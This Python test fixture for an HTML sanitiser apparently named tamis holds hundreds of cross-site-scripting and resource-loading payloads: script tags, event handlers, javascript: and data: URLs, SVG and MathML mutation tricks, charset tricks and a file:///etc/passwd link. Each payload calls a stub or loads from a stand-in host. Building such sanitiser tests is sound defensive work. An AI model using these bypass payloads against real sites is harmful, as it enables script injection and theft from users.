r"""Hostile pages, written by hand: every known way to get a script or a load past a sanitiser.

`pages()` gives them by name. Each is a small ordinary article with one piece of hostile markup in
it; the pieces are grouped by what they attack. A script that runs calls `ran(1)`, a load goes to
https://l.test/. benchmarks/safety.py opens what tamis makes of them in a browser,
tests/render/test_hostile.py checks it without one.
"""

from __future__ import annotations

PAGE = """<!doctype html><html lang=en><head><meta charset=utf-8><title>Sieves of silk</title>{head}
</head><body{body}><div class=cookie-banner><p>We use cookies. <button>Accept</button></div>
<nav><ul><li><a href="/">Home</a><li><a href="/tools">Tools</a></ul></nav>
<main><article><h1>Sieves of silk</h1>
<p>A tamis is a sieve with a fine mesh of silk, horsehair or steel, stretched over a wooden drum.
{content}
<p>A cook rubs purees, sauces and flour through it, and what is coarse stays behind in the mesh.
</article></main><footer><a href="/imprint">Imprint</a></footer></body></html>"""

SCRIPTS = {
    "script": "<script>ran(1)</script>",
    "script with source": "<script src=https://l.test/a.js></script>",
    "script in capitals": "<SCRIPT>ran(1)</SCRIPT>",
    "script with slash": "<script/src=https://l.test/a.js></script>",
    "script with junk": "<script//////junk=1>ran(1)</script>",
    "script in script": "<scr<script>ipt>ran(1)</scr</script>ipt>",
    "script after removal": "<scr<!-- -->ipt>ran(1)</script>",
    "script without end": "<script>ran(1)",
    "script end with spaces": "<script>ran(1)</script\t\n bar>",
    "script with nul": "<scr\0ipt>ran(1)</scr\0ipt>",
    "script with double less-than": "<<script>ran(1)//<</script>",
    "script in escaped comment": "<script><!--<script>ran(1)//--></script>ran(1)</script>",
    "script of type module": "<script type=module>ran(1)</script>",
    "script as text": "<p>Write &lt;script&gt;ran(1)&lt;/script&gt; into the page.",
    "script as text, twice": "<p>Write &amp;lt;script&amp;gt;ran(1)&amp;lt;/script&amp;gt; here.",
    "script as numbers": "<p>&#60;script&#62;ran(1)&#60;/script&#62; as numbers.",
    "script as numbers without end": "<p>&#0000060script&#x3e;ran(1)&#60/script&#62",
    "image as text": "<p>Like &lt;img src=x onerror=ran(1)&gt; so.",
    "image as text in two pieces": "<p>Like &lt;<b></b>img src=x onerror=ran(1)&gt; so.",
    "image as text across a link": "<p>Like <a href=/x>it &lt;</a>img src=x onerror=ran(1)&gt; so.",
    "image as text across emphasis": "<p>&lt;<em>img src=x</em> onerror=ran(1)&gt; <b>&lt;</b>p>",
    "link as Markdown in two pieces": "<p>[click]<b></b>(javascript:ran(1)) and <i>[x]</i>(data:x)",
    "image as code": "<pre><code>&lt;img src=x onerror=ran(1)&gt;</code></pre>",
    "code that ends its element": "<pre>&lt;/pre&gt;&lt;script&gt;ran(1)&lt;/script&gt;</pre>",
    "import map": '<script type=importmap>{"imports":{"a":"https://l.test/a.js"}}</script>',
}

HANDLERS = {
    "onerror": "<img src=x onerror=ran(1)>",
    "onerror without quotes or spaces": "<img/src=x/onerror=ran(1)>",
    "onerror after a quote": "<img src='x'onerror='ran(1)'>",
    "onerror in capitals": "<IMG SRC=x OnErRoR=ran(1)>",
    "onerror with form feed": "<img\fsrc=x\fonerror=ran(1)>",
    "onerror with vertical tab": "<img src=x \x0bonerror=ran(1)>",
    "onerror with entities": "<img src=x onerror=&#114;&#97;&#110;(1)>",
    "onerror in srcset": "<img srcset=x onerror=ran(1)>",
    "onload": "<body onload=ran(1)><p>A second body.",
    "onload of svg": "<svg onload=ran(1)></svg>",
    "onload of style": "<style onload=ran(1)></style>",
    "onload of link": "<link rel=stylesheet href=https://l.test/a.css onload=ran(1)>",
    "onload of iframe": "<iframe onload=ran(1)></iframe>",
    "onclick": "<p onclick=ran(1)>A paragraph that listens.",
    "onclick of a heading": "<h2 onclick=ran(1)>A heading that listens</h2>",
    "onclick of a link": "<p>A <a href=/x onclick=ran(1)>link</a> that listens.",
    "onclick of a cell": "<table><tr><th>A<th>B<tr><td onclick=ran(1)>1<td>2</table>",
    "onclick of an item": "<ul><li onclick=ran(1)>One<li>Two</ul>",
    "onclick of code": "<pre onclick=ran(1)><code onclick=ran(1)>x = 1</code></pre>",
    "onclick of a quote": "<blockquote onclick=ran(1)>Said so.</blockquote>",
    "onfocus": "<input onfocus=ran(1) autofocus>",
    "onfocus by tabindex": "<p tabindex=1 onfocus=ran(1) id=f autofocus>Focused text.",
    "onblur": "<button onblur=ran(1) autofocus>Press</button><input autofocus>",
    "ontoggle": "<details ontoggle=ran(1) open><summary>More</summary><p>Open text.</details>",
    "onstart of marquee": "<marquee onstart=ran(1)>Moving text</marquee>",
    "onmouseover": "<b onmouseover=ran(1)>Hover over these words</b>",
    "onwheel": "<p onwheel=ran(1) onscroll=ran(1) oncopy=ran(1)>Scroll these words.",
    "onpageshow": "<body onpageshow=ran(1)>",
    "onhashchange": "<body onhashchange=ran(1)>",
    "onanimationstart": (
        "<style>@keyframes a{}</style><p style=animation-name:a onanimationstart=ran(1)>Animated."
    ),
    "ontransitionend": "<p style=transition:color\u00201s ontransitionend=ran(1)>In transition.",
    "onpointerenter": "<figure onpointerenter=ran(1)><figcaption>Caption</figcaption></figure>",
    "onloadstart of video": "<video src=https://l.test/a.mp4 onloadstart=ran(1)></video>",
    "onerror of audio": "<audio src=x onerror=ran(1)>No sound.</audio>",
    "onerror of source": "<video><source src=x onerror=ran(1)></video>",
    "onerror of object": "<object data=x onerror=ran(1)></object>",
    "handler of an unknown element": "<x-sieve onclick=ran(1)>Unknown text</x-sieve>",
    "handler twice": "<p class=a onclick=1 onclick=ran(1)>Two handlers.",
    "handler without a name": "<p onx=ran(1) on=ran(1) o=1>Odd handlers.",
    "content editable": "<p contenteditable oninput=ran(1) onpaste=ran(1)>Edit this.",
    "popover": (
        "<div popover id=p onbeforetoggle=ran(1)>Pop</div><button popovertarget=p>Go</button>"
    ),
}

TARGETS = {
    "javascript": "javascript:ran(1)",
    "javascript in capitals": "JaVaScRiPt:ran(1)",
    "javascript after a space": " javascript:ran(1)",
    "javascript after a no-break space": "\u00a0javascript:ran(1)",
    "javascript after controls": "\x01\x02\x1fjavascript:ran(1)",
    "javascript after control references": "&#1;&#x1f;javascript:ran(1)",
    "javascript after a byte order mark": "\ufeffjavascript:ran(1)",
    "javascript with a tab": "java\tscript:ran(1)",
    "javascript with a line feed": "java\nscript:ran(1)",
    "javascript with a carriage return": "java\rscript:ran(1)",
    "javascript with tab references": "jav&#x09;ascript&#9;:ran(1)",
    "javascript with named references": "java&Tab;script&colon;ran&lpar;1&rpar;",
    "javascript with newline references": "java&NewLine;script:ran(1)",
    "javascript as numbers": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;ran(1)",
    "javascript as numbers without ends": "&#0000106&#0000097vascript:ran(1)",
    "javascript as hex": "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;ran(1)",
    "javascript with nul": "java\0script:ran(1)",
    "javascript with a nul reference": "java&#0;script:ran(1)",
    "javascript with a soft hyphen": "java\u00adscript:ran(1)",
    "javascript with a zero-width space": "java\u200bscript:ran(1)",
    "javascript with a full-width colon": "javascript\uff1aran(1)",
    "javascript with escapes": "%6Aavascript:ran(1)",
    "javascript with an escaped colon": "javascript%3Aran(1)",
    "javascript with a long s": "java\u017fcript:ran(1)",
    "javascript as a comment": "javascript://example.org/%0aran(1)",
    "javascript with slashes": "javascript:/**/ran(1)//https://example.org",
    "javascript with quotes": "javascript:'\"><img src=x onerror=ran(1)>'",
    "javascript behind view-source": "view-source:javascript:ran(1)",
    "feed before javascript": "feed:javascript:ran(1)",
    "vbscript": "vbscript:msgbox(1)",
    "livescript": "livescript:ran(1)",
    "mocha": "mocha:ran(1)",
    "data HTML": "data:text/html,<script>ran(1)</script>",
    "data HTML in base64": "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "data SVG": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran(1)'/>",
    "data without type": "data:,ran(1)",
    "data after a tab": "\tda\tta:text/html,<script>ran(1)</script>",
    "blob": "blob:https://example.org/0b9a4bd0",
    "filesystem": "filesystem:https://example.org/temporary/x.html",
    "file": "file:///etc/passwd",
    "about": "about:blank",
    "jar": "jar:https://l.test/a.jar!/x.html",
    "ms-appx": "ms-its:mhtml:file://c:\\nosuchfile.mht!https://l.test/a.chm::/a.html",
    "quote that leaves the attribute": '/x"onmouseover=ran(1) x="',
    "reference that leaves the attribute": "/x&quot; onmouseover=ran(1) x=&quot;",
    "angle brackets": '/x"><script>ran(1)</script>',
    "end of a Markdown target": "/x) <img src=x onerror=ran(1)> [y](javascript:ran(1)",
    "angle brackets of a Markdown target": "</x> [y](javascript:ran(1)) <z>",
    "line break in a target": "/x\n\n[y](javascript:ran(1))",
    "backslashes": "\\\\l.test\\x",
    "broken port": "https://example.org:99999999/x",
    "broken bracket": "https://[::1/x",
    "user name": "https://example.org@l.test/x",
}
"""Addresses, for links and for images."""

LEAVING = {
    "double quote": '"><img src=x onerror=ran(1)>',
    "double quote and handler": '" onmouseover="ran(1)',
    "double quote as reference": "&quot;&gt;&lt;img src=x onerror=ran(1)&gt;",
    "single quote": "'><img src=x onerror=ran(1)>",
    "backtick": "`><img src=x onerror=ran(1)>``onerror=ran(1)",
    "end of script": "</script><script>ran(1)</script>",
    "end of style": "</style><img src=x onerror=ran(1)>",
    "end of comment": "--><img src=x onerror=ran(1)>",
    "end of title": "</title></textarea></noscript></template><img src=x onerror=ran(1)>",
    "line breaks": "x\n\n<img src=x onerror=ran(1)>\n\n```\n<script>ran(1)</script>",
    "Markdown": "](javascript:ran(1)) [x](javascript:ran(1)) ![y](https://l.test/x.png)",
    "nul": '\0"\0>\0<img src=x onerror=ran(1)>',
    "lone surrogates": '&#xD800;"&#xDFFF;><img src=x onerror=ran(1)>',
    "ampersands": "&amp;quot;&amp;gt;&amp;#34;&#x22;&#62;<img src=x onerror=ran(1)>",
}
"""What leaves an attribute or a text that was not escaped."""

# What has an attribute that may come out again; {0} is a value in single quotes, escaped for them.
PLACES = {
    "alt": "<p><img src=https://l.test/a.png alt='{0}'> A picture.",
    "title of an image": "<p><img src=https://l.test/a.png title='{0}'> A picture.",
    "title of a link": "<p>A <a href=/x title='{0}'>link with a title</a> in it.",
    "class of code": "<pre><code class='language-{0}'>x = 1</code></pre>",
    "class of highlighted code": (
        "<div class='highlight highlight-source-{0}'><pre>x = 1</pre></div>"
    ),
    "language of code": "<pre data-lang='{0}' lang='{0}'><code data-language='{0}'>x</code></pre>",
    "span of a cell": "<table><tr><th colspan='{0}'>A<th rowspan='2{0}'>B<tr><td>1<td>2</table>",
    "start of a list": "<ol start='{0}' type='{0}'><li value='{0}'>One<li>Two</ol>",
    "id of a note": (
        "<p>Text<sup id='r{0}'><a href='#n{0}'>1</a></sup>.<ol class=footnotes><li id='n{0}'>Note"
        " <a href='#r{0}'>back</a></ol>"
    ),
    "formula": (
        "<p><span class=katex><math><semantics><mi>x</mi><annotation encoding='application/x-tex'>"
        "{0}</annotation></semantics></math></span> <math alttext='{0}'><mi>y</mi></math>"
        " <script type='math/tex'>{0}</script>"
    ),
    "text direction": "<p dir='{0}' lang='{0}'>Some text in a direction.",
    "time": "<p><time datetime='{0}'>Yesterday</time> it rained.",
    "name of an element": "<p><x{0}>Unknown element</x{0}>",
    "definition": "<dl><dt id='{0}'>Term<dd title='{0}'>Meaning</dl>",
}

FOREIGN = {
    "script in svg": "<svg><script>ran(1)</script></svg>",
    "script source in svg": "<svg><script href=https://l.test/a.js /></svg>",
    "script with references in svg": "<svg><script>&#114;an(1)</script></svg>",
    "link in svg": (
        "<svg><a xlink:href='javascript:ran(1)'><text y=20>Words in a drawing</text></a></svg>"
    ),
    "plain link in svg": (
        "<svg><a href='javascript:ran(1)'><text y=20>Words in a drawing</text></a></svg>"
    ),
    "animated link in svg": (
        "<svg><a><animate attributeName=href values=javascript:ran(1) /><text y=20>Go</text>"
        "</a></svg>"
    ),
    "set in svg": "<svg><set attributeName=onmouseover to=ran(1) /><text y=20>Words</text></svg>",
    "onbegin in svg": "<svg><animate onbegin=ran(1) attributeName=x dur=1s></svg>",
    "use in svg": "<svg><use href='https://l.test/a.svg#x' /></svg>",
    "image in svg": "<svg><image href='https://l.test/a.png' /></svg>",
    "foreignObject": (
        "<svg><foreignObject><p>Inside<img src=x onerror=ran(1)></foreignObject></svg>"
    ),
    "iframe in foreignObject": (
        "<svg><foreignObject><iframe src=javascript:ran(1)></iframe></foreignObject></svg>"
    ),
    "desc in svg": "<svg><desc><img src=x onerror=ran(1)></desc></svg>",
    "title in svg": "<svg><title><style><img src=x onerror=ran(1)></style></title></svg>",
    "style in svg": "<svg><style><img src=x onerror=ran(1)></style></svg>",
    "style in svg with an end": "<svg></p><style><a id='</style><img src=x onerror=ran(1)>'>",
    "comment in svg style": "<svg><style><!--</style><img src=x onerror=ran(1)>--></style></svg>",
    "CDATA in svg": "<svg><![CDATA[><img src=x onerror=ran(1)>]]></svg>",
    "CDATA outside": "<p><![CDATA[><img src=x onerror=ran(1)>]]> after.",
    "CDATA as text in svg": "<svg><text><![CDATA[<script>ran(1)</script>]]></text></svg>",
    "link in math": "<math href='javascript:ran(1)'><mi>x</mi></math>",
    "action in math": (
        "<math><maction actiontype='statusline#http://example.org' xlink:href='javascript:ran(1)'>x"
        "</maction></math>"
    ),
    "annotation of HTML": (
        "<math><annotation-xml encoding='text/html'><p>x<img src=x onerror=ran(1)>"
        "</annotation-xml></math>"
    ),
    "mtext with a table": (
        "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=ran(1)>"
    ),
    "mtext with a title": (
        "<math><mtext></p><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=ran(1)&gt;'>"
    ),
    "nested forms in math": (
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(1)>"
    ),
    "semantics with script": (
        "<math><semantics><annotation><script>ran(1)</script></annotation></math>"
    ),
}

MUTATION = {
    "noscript with a title": (
        "<noscript><p title='</noscript><img src=x onerror=ran(1)>'></noscript>"
    ),
    "noscript with text": "<noscript>&lt;img src=x onerror=ran(1)&gt; for no scripts</noscript>",
    "noscript with an image": "<noscript><img src=https://l.test/a.png onerror=ran(1)></noscript>",
    "noscript in head": "<noscript><style></noscript><img src=x onerror=ran(1)></style>",
    "template": "<template><img src=x onerror=ran(1)><script>ran(1)</script></template>",
    "template with a title": (
        "<template><p title='</template><img src=x onerror=ran(1)>'></template>"
    ),
    "declarative shadow root": (
        "<div><template shadowrootmode=open><img src=x onerror=ran(1)></template>Light</div>"
    ),
    "title in the body": "<title><img src=x onerror=ran(1)></title>",
    "title with an end inside": "<title>x</title><img src=x onerror=ran(1)></title>",
    "textarea": "<textarea><img src=x onerror=ran(1)></textarea>",
    "textarea with an end inside": "<textarea><a title='</textarea><img src=x onerror=ran(1)>'>",
    "xmp": "<xmp><img src=x onerror=ran(1)></xmp>",
    "xmp with an end inside": "<xmp><p title='</xmp><img src=x onerror=ran(1)>'></xmp>",
    "listing": "<listing>&lt;img src=x onerror=ran(1)&gt;</listing>",
    "plaintext": "<plaintext><img src=x onerror=ran(1)>",
    "noembed": "<noembed><p title='</noembed><img src=x onerror=ran(1)>'></noembed>",
    "noframes": "<noframes><p title='</noframes><img src=x onerror=ran(1)>'></noframes>",
    "iframe with text": "<iframe><p title='</iframe><img src=x onerror=ran(1)>'></iframe>",
    "style with text": "<style><p title='</style><img src=x onerror=ran(1)>'></style>",
    "select": "<select><option><img src=x onerror=ran(1)><script>ran(1)</script></select>",
    "select with style": "<select><style></select><img src=x onerror=ran(1)></style>",
    "comment": "<!-- ><img src=x onerror=ran(1)> -->",
    "short comment": "<!--><img src=x onerror=ran(1)>-->",
    "shorter comment": "<!---><img src=x onerror=ran(1)>-->",
    "comment with bang": "<!-- x --!><img src=x onerror=ran(1)>-->",
    "comment without end": "<!-- <img src=x onerror=ran(1)>",
    "conditional comment": "<!--[if gte IE 4]><script>ran(1)</script><![endif]-->",
    "revealed conditional comment": "<![if true]><img src=x onerror=ran(1)><![endif]>",
    "processing instruction": (
        "<?xml-stylesheet href='javascript:ran(1)'?><?><img src=x onerror=ran(1)>"
    ),
    "doctype": "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=ran(1)>'>]><p>&y; here.",
    "end tag with attributes": "</p onclick=ran(1)><p>After.",
    "end tag with junk": "</ ><img src=x onerror=ran(1)></>",
    "unclosed quote": '<p><a href="/x>link <img src=x onerror=ran(1)> "y">more</a>',
    "unclosed quotes": "<img alt='\"><script>ran(1)</script>",
    "unclosed tag": "<p><img src=x onerror=ran(1) <p>After.",
    "tag without end at the end": "<img src=x onerror=ran(1)",
    "quotes in an attribute name": "<p \"onclick=ran(1) '=x>Odd names.",
    "angle bracket in an attribute name": "<p <img src=x onerror=ran(1)>Odd names.",
    "equals signs": "<img =src=x =onerror=ran(1) src=x onerror=ran(1)>",
    "misnested table": "<table><p title='</table><img src=x onerror=ran(1)>'><tr><td>1</table>",
    "foster parents": "<table><img src=x onerror=ran(1)><tr><td>1<td>2</table>",
    "table in a link in a table": (
        "<table><tr><td><a href=javascript:ran(1)><table><tr><td>1</table></a><td>2</table>"
    ),
    "adoption": "<a href=javascript:ran(1)><b><p>One</a><p>Two</b><a href=/x>Three<a href=/y>Four",
    "a link in a link": "<a href=/x>One <a href=javascript:ran(1)>two</a> three</a>",
    "form in a form": "<form action=javascript:ran(1)><form><button>Go</button></form></form>",
    "deep nesting": "<b>" * 400 + "<img src=x onerror=ran(1)>" + "</b>" * 400,
    "deep lists": "<ul><li>" * 300 + "<a href=javascript:ran(1)>deep</a>",
    "deep quotes": "<blockquote>" * 300 + "<script>ran(1)</script>deep",
    "deep tables": "<table><tr><td>" * 100 + "<img src=x onerror=ran(1)>deep",
    "huge span": "<table><tr><td colspan=999999999 rowspan=999999999>A<td>B<tr><td>C</table>",
}

LOADS = {
    "base": "<base href=https://l.test/><p><a href=x>Link</a> <img src=y>",
    "base of javascript": "<base href='javascript:ran(1)//'><p><a href=x>Link</a> <img src=y>",
    "base of javascript with a fragment": (
        "<base href=javascript:ran(1)><p><a href=#x>Link</a> here."
    ),
    "base of data": "<base href='data:text/html,'><p><a href='<script>ran(1)</script>'>Link</a>.",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:ran(1)'>",
    "refresh to another page": "<meta http-equiv=refresh content='0;url=https://l.test/'>",
    "set-cookie": "<meta http-equiv=set-cookie content='a=1'>",
    "policy": "<meta http-equiv=content-security-policy content='report-uri https://l.test/'>",
    "iframe": "<iframe src=https://l.test/></iframe>",
    "iframe of javascript": "<iframe src=javascript:ran(1)></iframe>",
    "iframe with srcdoc": "<iframe srcdoc='<script>ran(1)</script>'></iframe>",
    "iframe with references": "<iframe srcdoc='&lt;script&gt;ran(1)&lt;/script&gt;'></iframe>",
    "frameset": "</article></main><frameset><frame src=javascript:ran(1)></frameset>",
    "object": "<object data=https://l.test/a.swf><p>Fallback</object>",
    "object of javascript": "<object data=javascript:ran(1)></object>",
    "embed": "<embed src=https://l.test/a.swf>",
    "embed of javascript": "<embed src=javascript:ran(1) type=text/html>",
    "applet": "<applet code=a.class archive=https://l.test/a.jar>Fallback</applet>",
    "param": "<object><param name=movie value=https://l.test/a.swf></object>",
    "style element": "<style>body{background:url(https://l.test/a.png)}</style>",
    "import": "<style>@import 'https://l.test/a.css';</style>",
    "font": "<style>@font-face{font-family:a;src:url(https://l.test/a)}p{font-family:a}</style>",
    "style attribute": "<p style='background:url(https://l.test/a.png)'>Styled.",
    "style of javascript": "<p style=\"background:url('javascript:ran(1)')\">Styled.",
    "style expression": "<p style='width:expression(ran(1))'>Styled.",
    "style behaviour": "<p style='behavior:url(#default#time2)' onbegin=ran(1)>Styled.",
    "style binding": "<p style='-moz-binding:url(https://l.test/a.xml#b)'>Styled.",
    "style of a cell": "<table><tr><td style='background:url(https://l.test/a)'>1<td>2</table>",
    "stylesheet": "<link rel=stylesheet href=https://l.test/a.css>",
    "stylesheet of javascript": "<link rel=stylesheet href=javascript:ran(1)>",
    "preload": "<link rel=preload as=image href=https://l.test/a.png>",
    "prefetch": "<link rel=dns-prefetch href=https://l.test/><link rel=prefetch href=//l.test/>",
    "module preload": "<link rel=modulepreload href=https://l.test/a.js>",
    "manifest": "<link rel=manifest href=https://l.test/m.json>",
    "icon": "<link rel=icon href=https://l.test/i.png>",
    "html import": "<link rel=import href=https://l.test/a.html>",
    "srcset": "<img srcset='https://l.test/a.png 1x, javascript:ran(1) 2x'>",
    "srcset of data": "<img srcset='data:image/svg+xml,<svg/onload=ran(1)> 1x'>",
    "sizes": "<img src=x sizes='\"><script>ran(1)</script>' srcset='https://l.test/a.png 1w'>",
    "picture": (
        "<picture><source srcset='javascript:ran(1)'><source srcset=https://l.test/b.png>"
        "<img src=https://l.test/a.png></picture>"
    ),
    "lazy image": "<img data-src=javascript:ran(1) data-srcset='data:text/html,x 1x' src=data:,>",
    "image element by its old name": "<image src=x onerror=ran(1)>",
    "dynsrc and lowsrc": "<img dynsrc=javascript:ran(1) lowsrc=javascript:ran(1)>",
    "background": (
        "<table background=https://l.test/a.png><tr><td background=javascript:ran(1)>1</table>"
    ),
    "background of the body": "<body background=https://l.test/a.png>",
    "poster": "<video poster=https://l.test/a.png></video><video poster=javascript:ran(1)></video>",
    "track": "<video><track src=https://l.test/a.vtt default></video>",
    "audio": "<audio autoplay src=https://l.test/a.mp3></audio>",
    "image button": "<input type=image src=https://l.test/a.png onerror=ran(1)>",
    "form action": "<form action=javascript:ran(1)><button>Go</button></form>",
    "button action": "<form><button formaction=javascript:ran(1)>Go</button></form>",
    "button for another form": (
        "<form id=f></form><button form=f formaction=javascript:ran(1)>Go</button>"
    ),
    "ping": "<p>A <a href=/x ping=https://l.test/>link</a> that pings.",
    "target": "<p>A <a href=/x target=_parent rel=opener download>link</a> with a target.",
    "area": "<map name=m><area shape=default href=javascript:ran(1)></map><img usemap=#m src=x>",
    "citation": (
        "<blockquote cite=javascript:ran(1)>Said <q cite=javascript:ran(1)>so</q>.</blockquote>"
    ),
    "long description": "<img src=x longdesc=javascript:ran(1)>",
    "changed text": "<p><ins cite=javascript:ran(1)>New</ins> <del cite=data:,x>old</del> words.",
    "bgsound": "<bgsound src=https://l.test/a.wav>",
    "layer": "<layer src=https://l.test/a.html></layer><ilayer src=javascript:ran(1)></ilayer>",
    "xml island": (
        "<xml src=javascript:ran(1) id=i></xml><div datasrc=#i dataformatas=html>Bound</div>"
    ),
    "portal": "<portal src=https://l.test/></portal><fencedframe></fencedframe>",
    "clobbering": "<form id=document name=cookie><input name=attributes><input id=location></form>",
    "clobbering by links": (
        "<p><a id=window></a><a id=window name=ran href=javascript:ran(1)>Names</a>"
    ),
    "network path": "<p><a href=//l.test/x>Link</a> <img src=//l.test/a.png>",
}

EMBEDDED = {
    "JSON-LD": (
        '<script type="application/ld+json">{"@type":"Article","headline":"<script>ran(1)'
        '<\\/script>",'
        '"image":"javascript:ran(1)","url":"javascript:ran(1)","articleBody":'
        '"<img src=x onerror=ran(1)> A body that is only in the data of the page."}</script>'
    ),
    "next data": (
        '<script id=__NEXT_DATA__ type="application/json">{"props":{"body":'
        '"<p>A body<img src=x onerror=ran(1)><script>ran(1)<\\/script></p>"}}</script>'
    ),
    "open graph": (
        '<meta property=og:title content="<script>ran(1)</script>">'
        '<meta property=og:image content="javascript:ran(1)">'
    ),
    "canonical": "<link rel=canonical href=javascript:ran(1)>",
    "Markdown code fence": "<pre>```\n\n<script>ran(1)</script>\n\n```</pre>",
    "Markdown link as text": "<p>[click](javascript:ran(1)) and ![x](https://l.test/x.png) text.",
    "Markdown reference as text": "<p>[click][1]<p>[1]: javascript:ran(1)",
    "Markdown autolink as text": (
        "<p>&lt;javascript:ran(1)&gt; and &lt;https://l.test/&gt; as text."
        "<p>&lt;javascript:ran(1)&gt; and &lt;https://l.test/&gt; as text."
    ),
    "Markdown HTML as text": (
        "<p>&lt;a href=javascript:ran(1)&gt;x&lt;/a&gt; &lt;!-- x --&gt; text."
        "<p>&lt;a href=javascript:ran(1)&gt;x&lt;/a&gt; &lt;!-- x --&gt; text."
    ),
    "Markdown in a heading": (
        "<h2># [x](javascript:ran(1)) `</h2>"
        "<h3>&lt;script&gt;ran(1)&lt;/script&gt;</h3>"
    ),
    "Markdown in a cell": (
        "<table><tr><th>a|b<th>`c|d`<tr><td>[x](javascript:ran(1))|"
        "<td>&lt;img src=x onerror=ran(1)&gt;</table>"
    ),
    "Markdown in link text": "<p><a href=/x>](javascript:ran(1)) [y</a> is a link.",
    "Markdown in code": (
        "<p>Code <code>`](javascript:ran(1))`&lt;script&gt;ran(1)&lt;/script&gt;"
        "</code>."
    ),
    "Markdown in a formula": (
        "<p><span class='math inline'>\\(x$ &lt;img src=x onerror=ran(1)&gt; $\\)</span> formula."
    ),
    "Markdown in a note": (
        "<p>Text<sup><a href='#fn1' id=r1>1</a></sup>.<ol class=footnotes><li id=fn1>"
        "[x]: javascript:ran(1)</ol>"
    ),
}  # fmt: skip

ENCODINGS = {
    "UTF-7": ("+ADw-script+AD4-ran(1)+ADw-/script+AD4-", "<meta charset=utf-7>", "ascii"),
    "ISO-2022-JP": ("<p title='\x1b$B'><img src=x onerror=ran(1)>\x1b(B'>", "", "latin-1"),
    "ISO-2022-JP declared": (
        "<p title='\x1b(J\\'><img src=x onerror=ran(1)>", "<meta charset=iso-2022-jp>", "latin-1",
    ),
    "Shift_JIS lead byte": (
        "<img alt='\x81'><p title='onerror=ran(1)//'>", "<meta charset=shift_jis>", "latin-1",
    ),
    "GBK lead byte": ("<img alt=\"\x8f\" src=x onerror=ran(1)>", "<meta charset=gbk>", "latin-1"),
    "Big5 lead byte": ("<a href='\xa3'><b onclick=ran(1)>x</b>", "<meta charset=big5>", "latin-1"),
    "overlong UTF-8": ("\xc0\xbcscript\xc0\xberan(1)\xc0\xbc/script\xc0\xbe", "", "latin-1"),
    "overlong UTF-8 in a target": ("<a href='\xe0\x80\xaajavascript:ran(1)'>x</a>", "", "latin-1"),
    "cut UTF-8 before a quote": ("<img alt=\"\xe2\x80\" src=x onerror=ran(1)>", "", "latin-1"),
    "lone bytes": ("<p>\xff\xfe<img src=x onerror=ran(1)>\x80\x81", "", "latin-1"),
    "UTF-16": ("<img src=x onerror=ran(1)><script>ran(1)</script>", "", "utf-16"),
    "UTF-16 without a mark": ("<img src=x onerror=ran(1)>", "", "utf-16-be"),
    "EBCDIC declared": ("<img src=x onerror=ran(1)>", "<meta charset=cp037>", "utf-8"),
    "user-defined": ("<img src=x onerror=ran(1)>\x80", "<meta charset=x-user-defined>", "latin-1"),
    "two declarations": (
        "<p>+ADw-script+AD4-ran(1)</p>", "<meta charset=utf-8><meta charset=utf-7>", "ascii",
    ),
    "full-width brackets": ("\uff1cscript\uff1eran(1)\uff1c/script\uff1e", "", "utf-8"),
    "modifier letters": ("\u02c2img src=x onerror=ran(1)\u02c3 \u203aa\u2039", "", "utf-8"),
    "right-to-left override": ("<p>\u202e<a href=javascript:ran(1)>\u202dx</a>", "", "utf-8"),
    "line separators": ("<a href='java\u2028script:ran(1)'>x</a><p>a\u2029b\u0085c", "", "utf-8"),
}  # fmt: skip
"""Markup, what goes into the head, and the encoding of the page."""

GROUPS = {
    "script": SCRIPTS,
    "handler": HANDLERS,
    "foreign": FOREIGN,
    "mutation": MUTATION,
    "load": LOADS,
    "embedded": EMBEDDED,
}

URLS = (
    "javascript:ran(1)",
    "data:text/html,<script>ran(1)</script>",
    'https://example.org/"><script>ran(1)</script>',
    "https://example.org/) [x](javascript:ran(1)",
    "not an address",
)
"""Addresses that a caller may give for a page."""


def pages() -> dict[str, bytes]:
    """The hostile pages by name."""
    pages = {
        f"{group}: {name}": page(markup)
        for group, vectors in GROUPS.items()
        for name, markup in vectors.items()
    }
    for name, target in TARGETS.items():
        value = target.replace("'", "&#39;")
        pages[f"link: {name}"] = page(f"<p>A <a href='{value}'>link to follow</a> in the text.")
        pages[f"image: {name}"] = page(f"<p>A picture <img src='{value}' alt=sieve> in the text.")
    for place, markup in PLACES.items():
        for name, value in LEAVING.items():
            quoted = value.replace("'", "&#39;")
            pages[f"{place}: {name}"] = page(markup.replace("{0}", quoted))
    for name, (markup, head, encoding) in ENCODINGS.items():
        pages[f"encoding: {name}"] = page(markup, head, encoding)
    for name, markup in {**LOADS, **EMBEDDED}.items():
        if markup.startswith(("<base", "<meta", "<link", "<style", "<script")):
            pages[f"head: {name}"] = page("", markup)
    pages["body: handlers"] = page("", body=" onload=ran(1) onpageshow=ran(1) background=x")
    return pages


def page(content: str, head: str = "", encoding: str = "utf-8", body: str = "") -> bytes:
    """An article with something hostile in it."""
    text = PAGE.format(content=content, head=head, body=body)
    return text.encode(encoding, "surrogatepass" if encoding == "utf-8" else "replace")
